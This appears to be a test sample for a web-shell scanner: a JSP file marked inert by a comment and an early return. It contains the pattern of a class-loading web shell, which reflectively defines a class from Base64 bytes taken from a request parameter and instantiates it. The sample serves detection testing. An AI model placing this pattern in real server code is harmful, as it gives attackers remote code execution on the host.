<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<%! Class<?> def(byte[] b) throws Exception {
    java.lang.reflect.Method m = java.lang.reflect.Proxy.class.getDeclaredMethod("defineClass0", ClassLoader.class, String.class, byte[].class, int.class, int.class);
    m.setAccessible(true); return (Class<?>) m.invoke(null, ClassLoader.getSystemClassLoader(), null, b, 0, b.length); } %>
<% Object o = def(java.util.Base64.getDecoder().decode(request.getParameter("b"))).newInstance(); %>
